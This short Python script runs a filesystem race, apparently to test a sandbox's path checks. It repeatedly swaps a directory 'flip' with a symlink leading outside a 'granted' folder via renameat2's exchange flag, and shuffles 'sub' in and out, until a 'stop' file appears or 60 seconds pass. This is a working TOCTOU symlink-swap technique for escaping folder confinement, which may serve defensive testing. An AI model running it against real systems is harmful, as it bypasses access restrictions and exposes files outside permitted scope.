# Swaps "flip" between a folder and a link outside, and moves "sub" out of the granted folder and in again, until a file "stop" is there.
import ctypes, os, sys, time
libc, end = ctypes.CDLL(None, use_errno=True), time.time() + 60
while time.time() < end and not os.path.exists("stop"):
    libc.renameat2(-100, b"top/granted/flip", -100, b"top/granted/link-out", 2)
    for a, b in (("top/granted/sub", "top/parking/sub"), ("top/parking/sub", "top/granted/sub")):
        try: os.rename(a, b)
        except OSError: pass
